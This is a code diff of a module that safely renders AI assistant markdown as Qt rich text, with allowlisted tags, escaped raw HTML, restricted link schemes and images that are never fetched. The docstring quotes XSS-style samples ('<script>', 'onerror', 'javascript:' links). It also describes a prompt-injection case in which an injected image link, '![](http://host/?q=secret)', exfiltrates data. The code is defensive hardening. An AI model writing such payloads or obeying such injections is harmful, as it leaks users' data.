@@ -2,14 +2,31 @@
 
 Assistant messages are shown in a ``QLabel`` (rich text), which hands the HTML to
 ``QTextDocument``. That engine understands a small, old-fashioned subset of HTML 4 and CSS 2,
-so this module writes exactly that subset itself from markdown-it-py's token stream, instead
-of post-processing markdown-it's own HTML: every tag and attribute comes from a short
-allowlist here, and every piece of model text is escaped.
+so this module writes exactly that subset from markdown-it-py's token stream, instead of
+post-processing markdown-it's own HTML: every tag and attribute comes from a short allowlist
+here, and every piece of model text is escaped.
+
+The work is split by what the libraries already do well:
+
+* **Inline tokens** (text, emphasis, code spans, links, images, breaks) go through
+  markdown-it's own renderer rule table: :class:`_QtInlineRenderer` is a ``RendererHTML``
+  whose rules write Qt's dialect and apply the safety rules below, and ``renderInline``
+  walks the tokens. Its default ``renderToken`` (a tag with all the token's attributes) is
+  replaced too, so a token type without a rule can only ever come out as escaped text.
+* **Bare URLs** are found by linkify-it-py, through markdown-it's ``linkify`` option, and
+  are links only for ``http(s)://`` and ``www.`` (:class:`_BareLinks`); user messages use
+  the same linkifier.
+* **Blocks** are this module's own writer (:class:`_HtmlWriter`), because markdown-it's
+  block HTML is wrong for Qt (no padding outside table cells, margins that do not
+  collapse, exponential nested-table layout) and because the writer charges everything to
+  the layout budget below and can stop at any block. The inline rules charge the same
+  budget, through the state the writer hands them in ``env``.
 
 Why it is built this way (docs/failures.md, item 7, "remote content in answers"):
 
 * **Raw HTML is text.** The parser runs with ``html`` off, so ``<script>``, ``<img
-  onerror=...>`` or ``<a href="javascript:...">`` written by a model appear literally, escaped.
+  onerror=...>`` or ``<a href="javascript:...">`` written by a model appear literally, escaped
+  (and the ``html_inline``/``html_block`` rules escape it too, should it ever be switched on).
 * **Images are never fetched.** A model, or a prompt injection hidden in a picture, can write
   ``![](http://host/?q=secret)``; showing that as ``<img>`` would leak data with zero clicks.
   No ``<img>`` tag (nor any ``src`` or ``background`` attribute) is ever written: an image
@@ -60,14 +77,17 @@ import functools
 import html
 import re
 from collections.abc import Sequence
-from dataclasses import dataclass, fields
-from typing import ClassVar
+from dataclasses import dataclass, field, fields
+from typing import Any, ClassVar, cast
 from urllib.parse import urlsplit
 
+from linkify_it import LinkifyIt
 from markdown_it import MarkdownIt
+from markdown_it.renderer import RendererHTML
 from markdown_it.rules_block import StateBlock
 from markdown_it.rules_block import table as table_rule
 from markdown_it.token import Token
+from markdown_it.utils import EnvType, OptionsDict
 
 __all__ = [
     "MAX_BLOCK_DEPTH",
@@ -148,9 +168,8 @@ _MONOSPACE = (
 
 _COLOR = re.compile(r"#[0-9a-fA-F]{3,8}|[a-zA-Z]{1,32}")
 
-# Bare URLs in text. Linear: one character class, no nested quantifiers.
-_BARE_URL = re.compile(r"https?://[^\s<>\"'`\x00-\x1f\x7f]+", re.IGNORECASE)
-_TRAILING_PUNCTUATION = ".,;:!?*_~'\""
+_STATE = "localsight_inline"
+"""Key of the :class:`_InlineState` in the ``env`` handed to the inline renderer."""
 
 
 @dataclass(frozen=True)
@@ -254,7 +273,7 @@ def plain_text_html(text: str, theme: MarkdownTheme | None = None) -> str:
     text = _clean(text)
     shown = text[:MAX_SHOWN_CHARS]
     link = f'<a href="{{href}}" style="color:{theme.link}">'
-    body = _escape_and_linkify(shown, link, _MAX_PLAIN_LINKS).replace("\n", "<br>")
+    body = _linkify_plain(shown, link, _MAX_PLAIN_LINKS).replace("\n", "<br>")
     more = ""
     if len(text) > len(shown):
         count = f"{len(text) - len(shown):,}"
@@ -265,19 +284,59 @@ def plain_text_html(text: str, theme: MarkdownTheme | None = None) -> str:
 # -- parsing ------------------------------------------------------------------------------
 
 
+class _Parser(MarkdownIt):
+    """markdown-it, but a bare or ``<autolink>`` URL is shown exactly as it was written."""
+
+    def normalizeLinkText(self, link: str) -> str:
+        # markdown-it decodes punycode and %-escapes for display, so the link text
+        # "https://xn--pple-43d.com" would read "https://аpple.com" (a Cyrillic "а") while
+        # the href stays the punycode host. The href is still normalized (normalizeLink).
+        return link
+
+
+class _BareLinks(LinkifyIt):  # type: ignore[misc]  # linkify-it-py has no type information
+    """linkify-it-py limited to what should be a link in an answer or a user's message.
+
+    Schemes: only ``http:`` and ``https:`` (its ``ftp:``, ``mailto:``, ``//`` and e-mail
+    address rules are off). Its fuzzy links (a host name without a scheme) are kept only
+    when they start with ``www.``: otherwise ``main.py`` or ``notes.md`` (``.py`` and
+    ``.md`` are country domains) would become links to hosts, in code-heavy answers.
+    Trailing punctuation, balanced brackets and quotes are linkify-it's rules.
+    """
+
+    def __init__(self) -> None:
+        super().__init__({"ftp:": None, "mailto:": None, "//": None}, {"fuzzy_email": False})
+
+    def match(self, text: str) -> list[Any] | None:
+        found = [
+            link
+            for link in super().match(text) or ()
+            if link.schema or link.raw[:4].lower() == "www."
+        ]
+        return found or None
+
+
+@functools.lru_cache(maxsize=1)
+def _bare_links() -> _BareLinks:
+    return _BareLinks()
+
+
 @functools.lru_cache(maxsize=1)
 def _parser() -> MarkdownIt:
-    """One shared parser: CommonMark + tables + strikethrough + task lists, raw HTML off.
+    """One shared parser: CommonMark + tables + strikethrough + task lists + bare URLs.
 
-    ``parse`` keeps all its state in a fresh state object, so sharing it between threads is
-    safe.
+    Raw HTML is off, and the renderer is :class:`_QtInlineRenderer` (used for inline tokens
+    only). ``parse`` keeps all its state in a fresh state object and the inline rules keep
+    theirs in ``env``, so sharing it between threads is safe.
     """
-    md = MarkdownIt(
+    md = _Parser(
         "commonmark",
-        {"html": False, "linkify": False, "typographer": False, "maxNesting": MAX_NESTING},
+        {"html": False, "linkify": True, "typographer": False, "maxNesting": MAX_NESTING},
+        renderer_cls=_QtInlineRenderer,
     )
+    md.linkify = _bare_links()
     md.options["tasklists"] = True  # older markdown-it-py ignores it: "[x]" stays text
-    md.enable(["table", "strikethrough"])
+    md.enable(["table", "strikethrough", "linkify"])  # linkify: a core and an inline rule
     md.block.ruler.at("table", _bounded_table, {"alt": ["paragraph", "reference"]})
     md.block.ruler.before("table", "depth_guard", _depth_guard)
     return md
@@ -361,44 +420,33 @@ def _elide(url: str) -> str:
     return url if len(url) <= _MAX_SHOWN_URL else url[:_MAX_SHOWN_URL] + "\u2026"
 
 
-def _trim_url(url: str) -> str:
-    """Drop punctuation that ends a sentence rather than the URL; keep balanced ``)``."""
-    end = len(url)
-    unbalanced = url.count(")") - url.count("(")  # counted once: linear on any input
-    while end:
-        last = url[end - 1]
-        if last in _TRAILING_PUNCTUATION:
-            end -= 1
-        elif last == ")" and unbalanced > 0:
-            end -= 1
-            unbalanced -= 1
-        else:
-            break
-    return url[:end]
-
-
-def _escape_and_linkify(text: str, link_open: str, max_links: int) -> str:
+def _linkify_plain(text: str, link_open: str, max_links: int) -> str:
     """Escape ``text``; up to ``max_links`` bare http(s) URLs in it become links.
 
-    ``link_open`` is an ``<a>`` tag with an ``{href}`` slot.
+    ``link_open`` is an ``<a>`` tag with an ``{href}`` slot. The URLs are found by the same
+    linkifier as in answers (:class:`_BareLinks`).
     """
-    if "://" not in text or max_links <= 0:
-        return _esc(text)
     parts: list[str] = []
     pos = 0
-    for match in _BARE_URL.finditer(text):
+    for link in _bare_links().match(text) or ():
         if max_links <= 0:
             break
-        url = _trim_url(match.group(0))
-        href = _safe_href(_parser().normalizeLink(url))
-        if href is None or len(url) <= len("https://"):
+        href = _safe_href(_parser().normalizeLink(link.url))
+        if href is None:
             continue
-        parts.append(_esc(text[pos : match.start()]))
-        parts.append(link_open.replace("{href}", _attr(href)) + _esc(url) + "</a>")
-        pos = match.start() + len(url)
+        parts.append(_esc(text[pos : link.index]))
+        shown = _esc(text[link.index : link.last_index])
+        parts.append(link_open.replace("{href}", _attr(href)) + shown + "</a>")
+        pos = link.last_index
         max_links -= 1
     parts.append(_esc(text[pos:]))
     return "".join(parts)
+
+
+def _text_cost(text: str, tables: int) -> int:
+    """Text costs more inside tables: Qt lays a cell out about twice per level."""
+    cost = len(text) * _COST_CHAR + text.count("\n") * _COST_LINE
+    return cost << tables
 
 
 def _style_sheet(t: MarkdownTheme) -> str:
@@ -482,9 +530,7 @@ class _HtmlWriter:
     # cost ------------------------------------------------------------------------------
 
     def _text_cost(self, text: str, extra_tables: int = 0) -> int:
-        """Text costs more inside tables: Qt lays a cell out about twice per level."""
-        cost = len(text) * _COST_CHAR + text.count("\n") * _COST_LINE
-        return cost << (self._tables + extra_tables)
+        return _text_cost(text, self._tables + extra_tables)
 
     def _cell_cost(self, cells: int, extra_tables: int = 0) -> int:
         return (cells * _COST_CELL) << max(self._tables + extra_tables - 1, 0)
@@ -627,8 +673,13 @@ class _HtmlWriter:
                 self._stack[-1].open_index = -1
 
     def _inline(self, token: Token, tokens: Sequence[Token], index: int) -> None:
+        """The inline content of a block, through markdown-it's renderer and its rule table."""
         self._container_start = False
-        self._inlines(token.children or [])
+        state = _InlineState(self._budget, self._tables, self.labels.image)
+        md = _parser()
+        renderer = cast(_QtInlineRenderer, md.renderer)
+        self.out.append(renderer.renderInline(token.children or [], md.options, {_STATE: state}))
+        self._budget = state.budget
 
     def _heading_open(self, token: Token, tokens: Sequence[Token], index: int) -> None:
         tag = token.tag if token.tag in ("h1", "h2", "h3", "h4", "h5", "h6") else "h6"
@@ -769,9 +820,56 @@ class _HtmlWriter:
     def _html_block(self, token: Token, tokens: Sequence[Token], index: int) -> None:
         self._plain_block(token.content)  # only if raw HTML were ever switched on
 
-    # inline level ----------------------------------------------------------------------
 
-    _SIMPLE_INLINE: ClassVar[dict[str, str]] = {
+# -- inline level ---------------------------------------------------------------------------
+
+
+@dataclass
+class _InlineState:
+    """What the inline rules share while one inline token is rendered; lives in ``env``.
+
+    The renderer is shared (one cached parser), so nothing per-render is kept on it.
+    """
+
+    budget: int  # the writer's layout budget; handed back to it afterwards
+    tables: int  # tables around the text: each doubles the cost of laying it out
+    image_label: str
+    # For each open link: None if it became an <a>, else the text to show after it.
+    links: list[str | None] = field(default_factory=list)
+    # <i>, <b>, <s> written and not yet closed: after the budget runs out no new ones
+    # are opened, but those already open still get closed.
+    emitted: dict[str, int] = field(default_factory=dict)
+
+    def text(self, text: str) -> str:
+        """``text`` escaped, its layout cost charged."""
+        self.budget -= _text_cost(text, self.tables)
+        return _esc(text)
+
+
+def _state(env: EnvType) -> _InlineState:
+    state: _InlineState = env[_STATE]
+    return state
+
+
+class _QtInlineRenderer(RendererHTML):
+    """markdown-it's HTML renderer with inline rules that write Qt's dialect, safely.
+
+    Only ``renderInline`` is used (blocks are :class:`_HtmlWriter`'s). Every rule charges
+    the layout budget in :class:`_InlineState`; once it is spent, formatting is dropped and
+    the text remains. The rules:
+
+    * ``text`` (and any token type without a rule, via ``renderToken``): escaped text.
+    * ``em``/``strong``/``s``: ``<i>``, ``<b>``, ``<s>``.
+    * ``code_inline``: a shaded ``<code>``.
+    * ``link_open``: an ``<a>`` only for an absolute http(s) URL with a host; any other link
+      is its text followed by its URL in muted text (a bare or ``<autolink>`` URL just stays
+      text: it is its own label).
+    * ``image``: never an ``<img>``, never fetched: ``[image: alt] url`` in muted text, the
+      URL not a link either.
+    * ``html_inline``/``html_block`` (only if raw HTML were ever switched on): escaped text.
+    """
+
+    _FORMATS: ClassVar[dict[str, str]] = {
         "em_open": "<i>",
         "em_close": "</i>",
         "strong_open": "<b>",
@@ -780,71 +878,84 @@ class _HtmlWriter:
         "s_close": "</s>",
     }
 
-    def _inlines(self, tokens: Sequence[Token]) -> None:
-        """Inline tokens; once the budget is spent, formatting is dropped and text remains."""
-        out = self.out
-        # For each open link: None if it became an <a>, else the text to show after it.
-        link_suffixes: list[str | None] = []
-        # <i>, <b>, <s> written and not yet closed: after the budget runs out no new ones
-        # are opened, but those already open still get closed.
-        emitted: dict[str, int] = {}
-        for token in tokens:
-            kind = token.type
-            rich = self._budget > 0
-            if kind == "text":
-                self._budget -= self._text_cost(token.content)
-                if link_suffixes or not rich:
-                    out.append(_esc(token.content))
-                else:
-                    most = self._budget // _COST_ELEMENT + 1
-                    linked = _escape_and_linkify(token.content, '<a href="{href}">', most)
-                    self._budget -= _COST_ELEMENT * linked.count("<a ")
-                    out.append(linked)
-            elif kind == "softbreak":
-                out.append("\n")  # a space to Qt, as in HTML
-            elif kind == "hardbreak":
-                out.append("<br>")
-            elif kind in self._SIMPLE_INLINE:
-                name = kind.rpartition("_")[0]
-                if token.nesting == 1 and rich:
-                    emitted[name] = emitted.get(name, 0) + 1
-                    out.append(self._SIMPLE_INLINE[kind])
-                    self._budget -= _COST_ELEMENT
-                elif token.nesting == -1 and emitted.get(name, 0) > 0:
-                    emitted[name] -= 1
-                    out.append(self._SIMPLE_INLINE[kind])
-            elif kind == "code_inline":
-                self._budget -= self._text_cost(token.content)
-                if rich:
-                    # Inline spans take no padding in Qt; no-break spaces pad the shading.
-                    out.append(f"<code>\u00a0{_esc(token.content)}\u00a0</code>")
-                    self._budget -= _COST_ELEMENT
-                else:
-                    out.append(_esc(token.markup + token.content + token.markup))
-            elif kind == "link_open":
-                raw = str(token.attrGet("href") or "")
-                href = _safe_href(raw)
-                if href is not None and rich:
-                    link_suffixes.append(None)
-                    out.append(f'<a href="{_attr(href)}">')
-                    self._budget -= _COST_ELEMENT
-                elif token.markup == "autolink":
-                    link_suffixes.append("")  # the text already is the address
-                else:
-                    link_suffixes.append(f' <span class="m">({_esc(_elide(raw))})</span>')
-            elif kind == "link_close":
-                suffix = link_suffixes.pop() if link_suffixes else None
-                out.append("</a>" if suffix is None else suffix)
-            elif kind == "image":
-                out.append(self._image(token))
-            elif token.content:
-                self._budget -= self._text_cost(token.content)
-                out.append(_esc(token.content))
+    def renderToken(
+        self, tokens: Sequence[Token], idx: int, options: OptionsDict, env: EnvType
+    ) -> str:
+        # Instead of markdown-it's generic "<tag attrs>": an unknown token is only its text.
+        content = tokens[idx].content
+        return _state(env).text(content) if content else ""
 
-    def _image(self, token: Token) -> str:
-        """An image as muted text: never an <img>, and its URL is not a link either."""
+    def text(self, tokens: Sequence[Token], idx: int, options: OptionsDict, env: EnvType) -> str:
+        return _state(env).text(tokens[idx].content)
+
+    html_inline = html_block = text
+
+    def softbreak(
+        self, tokens: Sequence[Token], idx: int, options: OptionsDict, env: EnvType
+    ) -> str:
+        return "\n"  # a space to Qt, as in HTML
+
+    def hardbreak(
+        self, tokens: Sequence[Token], idx: int, options: OptionsDict, env: EnvType
+    ) -> str:
+        return "<br>"
+
+    def _format(self, tokens: Sequence[Token], idx: int, options: OptionsDict, env: EnvType) -> str:
+        """``em``, ``strong`` and ``s``, opening and closing."""
+        token = tokens[idx]
+        state = _state(env)
+        name = token.type.rpartition("_")[0]
+        if token.nesting == 1 and state.budget > 0:
+            state.emitted[name] = state.emitted.get(name, 0) + 1
+            state.budget -= _COST_ELEMENT
+            return self._FORMATS[token.type]
+        if token.nesting == -1 and state.emitted.get(name, 0) > 0:
+            state.emitted[name] -= 1
+            return self._FORMATS[token.type]
+        return ""
+
+    em_open = em_close = strong_open = strong_close = s_open = s_close = _format
+
+    def code_inline(
+        self, tokens: Sequence[Token], idx: int, options: OptionsDict, env: EnvType
+    ) -> str:
+        token = tokens[idx]
+        state = _state(env)
+        if state.budget <= 0:
+            return state.text(token.markup + token.content + token.markup)
+        state.budget -= _COST_ELEMENT
+        # Inline spans take no padding in Qt; no-break spaces pad the shading.
+        return f"<code>\u00a0{state.text(token.content)}\u00a0</code>"
+
+    def link_open(
+        self, tokens: Sequence[Token], idx: int, options: OptionsDict, env: EnvType
+    ) -> str:
+        token = tokens[idx]
+        state = _state(env)
+        raw = str(token.attrGet("href") or "")
+        href = _safe_href(raw)
+        if href is not None and state.budget > 0:
+            state.links.append(None)
+            state.budget -= _COST_ELEMENT
+            return f'<a href="{_attr(href)}">'
+        if token.markup in ("autolink", "linkify"):
+            state.links.append("")  # the text already is the address
+        else:
+            state.links.append(f' <span class="m">({_esc(_elide(raw))})</span>')
+        return ""
+
+    def link_close(
+        self, tokens: Sequence[Token], idx: int, options: OptionsDict, env: EnvType
+    ) -> str:
+        state = _state(env)
+        suffix = state.links.pop() if state.links else None
+        return "</a>" if suffix is None else suffix
+
+    def image(self, tokens: Sequence[Token], idx: int, options: OptionsDict, env: EnvType) -> str:
+        token = tokens[idx]
+        state = _state(env)
         src = str(token.attrGet("src") or "")
         alt = " ".join(token.content.split())
-        label = f"[{self.labels.image}: {alt}]" if alt else f"[{self.labels.image}]"
-        self._budget -= _COST_ELEMENT
+        label = f"[{state.image_label}: {alt}]" if alt else f"[{state.image_label}]"
+        state.budget -= _COST_ELEMENT
         return f'<span class="m">{_esc(label)} {_esc(_elide(src))}</span>'
